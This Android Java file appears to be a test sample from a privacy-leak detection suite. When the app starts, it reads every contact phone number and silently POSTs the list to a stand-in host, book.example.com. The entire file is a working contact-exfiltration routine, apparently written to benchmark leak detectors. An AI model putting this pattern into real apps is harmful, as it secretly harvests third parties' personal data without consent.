package cn.privlens.suite.contact_phone_to_http;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            try {
                Cursor c = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
                StringBuilder all = new StringBuilder();
                while (c.moveToNext()) {
                    all.append(c.getString(c.getColumnIndex("data1"))).append(',');
                }
                HttpURLConnection h = (HttpURLConnection) new URL("https://book.example.com/up").openConnection();
                h.setDoOutput(true);
                h.getOutputStream().write(all.toString().getBytes());
                h.getResponseCode();
            } catch (IOException e) {
                Log.w("suite", "net");
            }
        }).start();
    }
}
